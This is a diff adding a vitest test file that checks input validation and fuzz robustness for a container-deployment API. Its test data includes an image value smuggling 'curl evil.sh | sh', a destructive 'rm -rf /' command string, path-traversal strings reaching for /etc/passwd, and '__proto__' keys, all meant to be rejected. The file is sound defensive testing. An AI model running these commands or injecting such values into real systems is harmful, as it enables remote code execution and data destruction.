@@ -1,0 +1,156 @@
+import fc from 'fast-check';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { localApi, sampleApp } from '../support/local-api.ts';
+
+type Api = Awaited<ReturnType<typeof localApi>>;
+
+const BAD_APPS: [string, Record<string, unknown>, string][] = [
+  ['an invalid cpu/memory pair', { cpu: 0.25, memory: 4096 }, 'valid values: 512, 1024, 2048'],
+  ['a cpu that is no Fargate size', { cpu: 3, memory: 4096 }, 'cpu must be one of'],
+  ['a non-DNS name', { name: 'My_App' }, 'DNS label'],
+  ['a name that is too long', { name: `a${'b'.repeat(63)}` }, 'DNS label'],
+  ['a path-traversal name', { name: '../../etc' }, 'DNS label'],
+  ['a path-traversal health path', { healthCheck: { path: '/../../etc/passwd' } }, '".." segments'],
+  ['a reserved BERTH_ env name', { env: { BERTH_TOKEN: 'x' } }, 'may not start with'],
+  ['a reserved AWS_ env name', { env: { AWS_SECRET_ACCESS_KEY: 'x' } }, 'may not start with'],
+  ['a reserved ECS_ env name', { env: { ecs_agent: 'x' } }, 'may not start with'],
+  ['a bad env name', { env: { 'BAD-NAME': 'x' } }, 'env names match'],
+  [
+    'too many env vars',
+    { env: Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`V${i}`, 'x'])) },
+    'at most 100',
+  ],
+  ['an unknown field', { privileged: true }, 'unknown field(s): privileged'],
+  ['a wrong type', { port: '8080' }, 'expected number'],
+  ['a port out of range', { port: 70000 }, 'port'],
+  ['an image with a shell string', { image: 'web; curl evil.sh | sh' }, 'OCI image reference'],
+  ['a command that is a string', { command: 'sh -c "rm -rf /"' }, 'expected array'],
+  ['replicas outside scaling', { replicas: 5, scaling: { min: 1, max: 2 } }, 'scaling.min..max'],
+  ['a bad cron', { scaling: { min: 1, max: 2, schedules: [{ cron: 'every day', min: 1, max: 1 }] } }, 'cron'],
+  [
+    'a bad timezone',
+    {
+      scaling: { min: 1, max: 2, schedules: [{ cron: '0 8 * * *', timezone: 'Mars/Base', min: 1, max: 1 }] },
+    },
+    'IANA',
+  ],
+];
+
+describe('bad input on DynamoDB Local', () => {
+  let api: Api;
+  let key: string;
+
+  beforeAll(async () => {
+    api = await localApi();
+    key = (await api.createTenant('acme')).key;
+    await api.call('POST', '/v1/apps', key, sampleApp('web'));
+  });
+
+  it.each(BAD_APPS)('answers 400 problem+json to %s', async (_what, change, message) => {
+    const res = await api.call('POST', '/v1/apps', key, { ...sampleApp('bad'), ...change });
+    expect(res.status).toBe(400);
+    expect(res.headers.get('content-type')).toBe('application/problem+json');
+    expect(res.json.code).toBe('validation.failed');
+    expect(res.json.detail).toContain(message);
+    expect((res.json.errors as unknown[]).length).toBeGreaterThan(0);
+  });
+
+  it('names the valid memories when a PATCH makes the merged size invalid', async () => {
+    const res = await api.call('PATCH', '/v1/apps/web', key, { cpu: 2 });
+    expect(res).toMatchObject({ status: 400, json: { code: 'validation.failed' } });
+    expect(res.json.detail).toContain('memory 512 MiB is not valid with cpu 2; valid values: 4096, 5120');
+  });
+
+  it.each([
+    ['malformed JSON', '{"name":', 400],
+    ['a JSON array', '[1,2,3]', 400],
+    ['JSON null', 'null', 400],
+    ['an empty body', '', 400],
+  ])('answers 4xx to %s', async (_what, body, status) => {
+    const res = await api.call('POST', '/v1/apps', key, body);
+    expect(res.status).toBe(status);
+    expect(res.headers.get('content-type')).toBe('application/problem+json');
+  });
+
+  it('answers 413 to a body over 64 KiB', async () => {
+    const res = await api.call('POST', '/v1/apps', key, {
+      ...sampleApp('big'),
+      env: { BIG: 'x'.repeat(70_000) },
+    });
+    expect(res).toMatchObject({ status: 413, json: { code: 'payload.tooLarge' } });
+  });
+
+  it('answers 400 to path parameters that are no DNS label', async () => {
+    for (const path of [
+      '/v1/apps/..%2F..%2Fetc',
+      '/v1/apps/UPPER',
+      '/v1/apps/web/revisions/0',
+      '/v1/apps/web/revisions/x',
+    ]) {
+      const res = await api.call('GET', path, key);
+      expect({ path, status: res.status }).toEqual({ path, status: 400 });
+    }
+  });
+
+  it('never answers 5xx to 1,000 random bodies on each write route', async () => {
+    const adminKey = api.adminKey;
+    const field = fc.oneof(
+      fc.anything(),
+      fc.constantFrom('web', 'free', 'pro', 'acme', 'suspended', 'active', '127.0.0.1:5000/acme/web:1'),
+      fc.constantFrom(0, 0.25, 0.5, 1, 512, 1024, 2048, -1, 1e9, Number.NaN),
+      fc.string(),
+    );
+    const body = fc.oneof(
+      fc.anything(),
+      fc.dictionary(
+        fc.constantFrom(
+          'id',
+          'name',
+          'plan',
+          'status',
+          'limits',
+          'image',
+          'cpu',
+          'memory',
+          'port',
+          'command',
+          'env',
+          'replicas',
+          'scaling',
+          'healthCheck',
+          'runtime',
+          'revision',
+          'role',
+          '__proto__',
+          'constructor',
+        ),
+        field,
+      ),
+      fc.string().map((s) => `{${s}`),
+    );
+    const routes: [string, string, string][] = [
+      ['POST', '/v1/plans', adminKey],
+      ['PATCH', '/v1/plans/pro', adminKey],
+      ['POST', '/v1/tenants', adminKey],
+      ['PATCH', '/v1/tenants/acme', adminKey],
+      ['POST', '/v1/tenants/acme/keys', adminKey],
+      ['POST', '/v1/apps', key],
+      ['PATCH', '/v1/apps/web', key],
+      ['POST', '/v1/apps/web/deployments', key],
+      ['POST', '/v1/apps/web/rollback', key],
+      ['POST', '/v1/apps/web/scale', key],
+    ];
+    for (const [method, path, routeKey] of routes) {
+      await fc.assert(
+        fc.asyncProperty(body, async (b) => {
+          const raw = typeof b === 'string' && b.startsWith('{') ? b : (JSON.stringify(b ?? null) ?? 'null');
+          const res = await api.call(method, path, routeKey, raw);
+          if (res.status >= 500)
+            throw new Error(`${method} ${path} answered ${res.status} to ${raw}: ${res.text}`);
+          if (res.status >= 400) expect(res.headers.get('content-type')).toBe('application/problem+json');
+        }),
+        { numRuns: 1000 },
+      );
+    }
+  }, 300_000);
+});
